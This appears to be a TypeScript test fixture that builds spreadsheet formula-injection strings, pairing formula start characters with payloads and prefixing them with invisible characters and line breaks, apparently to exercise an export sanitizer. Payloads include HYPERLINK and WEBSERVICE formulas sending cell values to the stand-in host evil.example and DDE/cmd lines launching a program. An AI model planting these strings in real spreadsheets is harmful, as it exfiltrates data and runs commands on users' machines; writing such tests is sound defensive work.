const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠']

const REMAINDERS = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("https://evil.example/?"&B2,"Xem")',
  'IMPORTXML("https://evil.example","//a")',
  'WEBSERVICE("https://evil.example/"&C2)',
  'IMAGE("https://evil.example/a.png")',
  "cmd|'/C calc'!A0",
  'DDE("cmd","/C calc","x")',
  'QUERY(A:Z,"select *")',
  '0900000001',
]

/** Blanks, and characters that take no room, alone and together. */
const LEADS = [
  ['nothing', ''],
  ['a blank', ' '],
  ['blanks', '   '],
  ['a no-break space', '\u00A0'],
  ['an em space', '\u2003'],
  ['an ideographic space', '\u3000'],
  ['a vertical tab', '\v'],
  ['a form feed', '\f'],
  ['a line separator', '\u2028'],
  ['a soft hyphen', '\u00AD'],
  ['a grapheme joiner', '\u034F'],
  ['an Arabic letter mark', '\u061C'],
  ['a Hangul filler', '\u3164'],
  ['a vowel separator', '\u180E'],
  ['a Mongolian variation selector', '\u180B'],
  ['a zero-width space', '\u200B'],
  ['a zero-width joiner', '\u200D'],
  ['a right-to-left mark', '\u200F'],
  ['a direction override', '\u202E'],
  ['a word joiner', '\u2060'],
  ['an isolate', '\u2066'],
  ['a variation selector', '\uFE0F'],
  ['a byte order mark', '\uFEFF'],
  ['a tag character', '\u{E0041}'],
  ['a no-character', '\uFFFE'],
  ['a NUL', '\u0000'],
  ['blanks among zero widths', '\u200B \uFEFF\u00A0\u2060'],
] as const

const BREAKS = ['\t', '\r', '\n', '\r\n']

/** Returns what a spreadsheet might run: each start and remainder behind each lead, then behind tab, CR and LF. */
export const formulaStrings = (): ReadonlyArray<{ readonly lead: string; readonly text: string }> => {
  const formulas = STARTS.flatMap((start) => REMAINDERS.map((remainder) => `${start}${remainder}`))
  return [
    ...LEADS.flatMap(([lead, opening]) =>
      formulas.map((formula) => ({ lead, text: `${opening}${formula}` })),
    ),
    ...BREAKS.flatMap((opening) =>
      ['1+1', 'Nguyễn Mẫu', ...formulas].map((text) => ({ lead: 'a break', text: `${opening}${text}` })),
    ),
  ]
}
